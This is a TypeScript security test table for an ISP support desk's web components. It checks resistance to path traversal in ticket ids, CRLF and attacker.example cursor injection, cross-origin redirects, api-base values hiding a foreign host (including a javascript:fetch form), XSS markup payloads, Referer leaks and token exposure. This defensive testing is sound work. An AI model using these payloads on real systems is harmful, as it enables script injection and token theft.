import {seededTicketId} from '../../demo/desk/seed/rows-from-script.js';
import {element, ours, type Case, type Exchange, type Table} from './case.js';
import {deepAll, fill, press, t, textOf, until, untilText} from './page/verbs.js';
import {policies} from './policies.js';

const ticketId = seededTicketId('evening-slowdown');
const list = element('isp-ticket-list');
const thread = element('isp-ticket-thread', `ticket-id="${ticketId}"`);
const firstSubject = 'Red LOS light on the fibre box, no internet at all';
const always = {path: '/customer/**', times: Infinity};

/** The developer is told what is wrong with a response. */
const contractWarning = /^console\.warn: isp-support-elements: the server breaks the contract/;

const sentTo =
  (server: Exchange['server']) =>
  (exchanges: readonly Exchange[]): readonly string[] =>
    exchanges
      .filter(each => each.server === server)
      .map(({method, url, referer, body}) => `${server} has received ${method} ${url} ${referer} ${body}`);

/** The requests to the API that left the path of the API. */
const outsideApi = (exchanges: readonly Exchange[]): readonly string[] =>
  exchanges
    .filter(({server, url}) => server === 'api' && !/^\/\d+\/api\/customer\//.test(new URL(url).pathname))
    .map(({url}) => `a request has left the API: ${url}`);

const responseOf =
  (change: (json: Record<string, unknown>) => object) =>
  async (request: Request, next: (request: Request) => Promise<Response>): Promise<Response> => {
    const response = await next(request);
    return Response.json(change((await response.json()) as Record<string, unknown>));
  };

const hostileIds = ['..', '../../admin', '%2e%2e', '..%2f..', '.', 'a/b', 'a?b#c', '\\..\\', 'a'.repeat(200), '\0'];

const ids = hostileIds.map((id): Case => ({
  name: `ids: ticket-id of the page | ${JSON.stringify(id).slice(0, 20)}`,
  body: element('isp-ticket-thread'),
  run: async () => {
    Object.assign(deepAll('isp-ticket-thread')[0]!, {ticketId: id});
    await untilText(t('error.not_found'));
  },
  inspect: outsideApi,
}));

// A control character is none of an id: the row is left out.
const rowIds = hostileIds.slice(0, -1).map((id): Case => ({
  name: `ids: id in a row of the server | ${JSON.stringify(id).slice(0, 20)}`,
  body: element('isp-support'),
  arrange: desk =>
    desk.faults.set(
      {path: '/customer/tickets', times: Infinity},
      responseOf(({data, ...rest}) => ({
        ...rest,
        data: (data as object[]).map((row, index) => (index === 0 ? {...row, id} : row)),
      })),
    ),
  run: async () => {
    await press(firstSubject);
    await untilText(t('error.not_found'));
  },
  inspect: outsideApi,
}));

const cursors = ['../../admin', 'https://attacker.example/', '&limit=1#', '\r\nX: y'].map((cursor): Case => ({
  name: `cursors: next_cursor of the server | ${JSON.stringify(cursor)}`,
  body: list,
  expected: contractWarning,
  arrange: desk =>
    desk.faults.set(
      {path: '/customer/tickets', times: Infinity},
      responseOf(json => ({...json, next_cursor: cursor})),
    ),
  run: async () => {
    await press(t('list.more'));
    await until('the request', () => performance.getEntriesByType('resource').some(({name}) => /cursor=/.test(name)));
  },
  inspect: exchanges => [
    ...outsideApi(exchanges),
    ...exchanges
      .filter(({url}) => url.includes('cursor='))
      .filter(({url}) => new URL(url).searchParams.get('cursor') !== cursor)
      .map(({url}) => `the cursor is not one value: ${url}`),
  ],
}));

const redirects = [301, 302, 303, 307, 308].flatMap(status =>
  (['GET', 'POST'] as const).map((method): Case => ({
    name: `redirects of the API to another origin | ${method} ${status}`,
    body: thread,
    expected: contractWarning,
    arrange: (desk, _faults, {foreign}) =>
      desk.faults.set(
        {...always, method},
        async () => new Response(null, {status, headers: {Location: `${foreign}/steal`}}),
      ),
    run: async () => {
      if (method === 'GET') return untilText(t('thread.failed'));
      await fill(t('composer.label'), 'My account number is 4711.');
      await press(t('composer.send'));
      return untilText('Not sent yet');
    },
    inspect: sentTo('foreign'),
  })),
);

/** `api-base` in forms that hide another host, which would receive the token. */
const hiddenHosts = [
  '//{host}/api',
  '/\\{host}/api',
  '\\\\{host}/api',
  ' //{host}/api',
  '\t//{host}/api',
  'http:/\\{host}/api',
  'http://user:pass@{host}/api',
  'http://{host}/api?x=',
  'http://{host}/api#',
  'javascript:fetch("http://{host}")',
  'data:,{host}',
  'blob:http://{host}/1',
].map((form): Case => ({
  name: `api-base that hides a host | ${JSON.stringify(form)}`,
  body: '<isp-ticket-list></isp-ticket-list><meta name="foreign" content="{foreign}">',
  expected: /^console\.\w+: isp-support-elements: api-base/,
  run: async () => {
    const host = new URL(deepAll<HTMLMetaElement>('meta[name=foreign]')[0]!.content).host;
    deepAll('isp-ticket-list')[0]!.setAttribute('api-base', form.replace('{host}', host));
    await untilText(t('error.misconfigured'));
  },
  inspect: sentTo('foreign'),
}));

/** Follows the first link to the foreign server in this tab: a script may not open another. */
async function followLink(): Promise<void> {
  const found = await until('the link', () => deepAll<HTMLAnchorElement>('a[href*="landing"]')[0]);
  if (!/noopener/.test(found.rel) || !/noreferrer/.test(found.rel)) throw new Error(`rel is ${found.rel}`);
  found.removeAttribute('target');
  found.click();
  await new Promise(() => undefined);
}

const referer: Case = {
  name: 'Referer of a link in a reply',
  body: thread,
  head: '<meta name="referrer" content="unsafe-url">',
  arrange: (desk, _faults, {foreign}) => desk.staff.reply(ticketId, `See ${foreign}/landing.html for more.`),
  run: followLink,
  inspect: exchanges => {
    const landing = exchanges.find(({url}) => url.startsWith('/landing'));
    if (!landing) return ['the link was not followed'];
    return landing.referer ? [`the Referer is ${landing.referer}`] : [];
  },
};

const apiReferer: Case = {
  name: 'Referer of the requests to the API',
  body: thread,
  head: '<meta name="referrer" content="unsafe-url">',
  run: () => untilText(t('thread.description')),
  inspect: exchanges =>
    exchanges.filter(each => each.server === 'api' && each.referer).map(each => `the Referer is ${each.referer}`),
};

const markup = [
  '<img src=x onerror="recorder.problems.push(\'XSS\')">',
  '<script>recorder.problems.push("XSS")</scr' + 'ipt>',
  '<svg><style>*{display:none}</style></svg>',
  "javascript:recorder.problems.push('XSS')",
  'data:text/html,<script>1</script>',
  '[x](javascript:1) https://user:pass@attacker.example/',
].map((text): Case => ({
  name: `text of the server as HTML, script or link | ${text.slice(0, 24)}`,
  body: element('isp-support', `ticket-id="${ticketId}"`),
  arrange: desk => desk.staff.reply(ticketId, text, text),
  run: async () => {
    await untilText(text.slice(0, 30));
    const unsafe = deepAll<HTMLAnchorElement>('a').filter(
      ({protocol}) => !/^(https?|mailto|tel|sms|sip):/.test(protocol),
    );
    if (unsafe.length > 0) throw new Error(`a link to ${unsafe[0]!.href}`);
    if (deepAll('img, svg style, [onerror]').length > 0) throw new Error('the text has become HTML');
  },
}));

/** What a script of the page, or another version of ours, has done before or does later. */
const neighbours: readonly Case[] = [
  {
    name: 'two versions of ours on one page',
    script: `${ours}<script src="/other-version.js"></script>`,
    body: list + thread,
    run: () => untilText(firstSubject),
  },
  {
    name: 'two versions of ours, each with some of the elements',
    head: `<script>
      const {define} = customElements;
      customElements.define = (tag, type) => tag !== 'isp-ticket-list' && define.call(customElements, tag, type);
    </script>`,
    script: `<script src="/other-version.js"></script><script>delete customElements.define</script>${ours}`,
    body: list + thread,
    run: async () => {
      await untilText(firstSubject);
      await untilText(t('thread.description'));
    },
  },
  {
    name: 'another Lit under Trusted Types',
    ...policies.nonce,
    head: '<script src="{files}/page-lit.js" nonce="{nonce}" crossorigin></script>',
    body: `<page-lit></page-lit>${list}`,
    run: async () => {
      await untilText(firstSubject);
      await untilText('rendered by the Lit of the page');
    },
  },
  ...[
    '{jitless: false}',
    "{customError: () => 'HOST', localeError: () => 'HOST'}",
    '{memoizer: {}, postProcessor: 1}',
  ].map((configuration): Case => ({
    name: `another zod, configured | ${configuration.slice(0, 20)}`,
    ...policies.nonce,
    head: `<script nonce="{nonce}">globalThis.__zod_globalConfig = ${configuration}</script>`,
    body: list + element('isp-new-ticket'),
    run: async () => {
      await untilText(firstSubject);
      if (textOf().includes('HOST')) throw new Error('a text of the page');
    },
  })),
];

/** Places from which another script could read the token. The runner looks for it in the page after every case. */
const token: readonly Case[] = [
  {
    name: 'token in the attribute',
    body: '<isp-ticket-list api-base="{api}" token="{token}" data-signed-out></isp-ticket-list>',
    run: async () => {
      await untilText(firstSubject);
      if (deepAll('[token]').length > 0) throw new Error('the attribute is still there');
    },
  },
  {
    name: 'token in errors, events and with debug',
    body: element('isp-ticket-list', 'debug') + element('isp-ticket-thread', 'ticket-id="missing" debug'),
    run: async () => {
      const seen: string[] = [];
      for (const type of ['isp-error', 'isp-ready', 'isp-unread-change', 'isp-token-expired']) {
        document.addEventListener(type, event =>
          seen.push(JSON.stringify({...event}) + String((event as never)['cause'])),
        );
      }
      await untilText(firstSubject);
      await untilText(t('error.not_found'));
      const [, secret] = window.takeToken().split('.');
      if (seen.some(text => text.includes(secret!))) throw new Error('the token is in an event');
    },
  },
  {
    name: 'token read from the elements',
    body: list,
    run: async () => {
      await untilText(firstSubject);
      const found = deepAll('isp-ticket-list')[0]! as HTMLElement & {token?: unknown};
      if (found.token !== undefined) throw new Error('the token can be read');
    },
  },
];

export const attackTable: Table = {
  title: 'attack',
  cases: [
    ...token,
    ...ids,
    ...rowIds,
    ...cursors,
    ...redirects,
    ...hiddenHosts,
    ...markup,
    referer,
    apiReferer,
    ...neighbours,
  ],
};
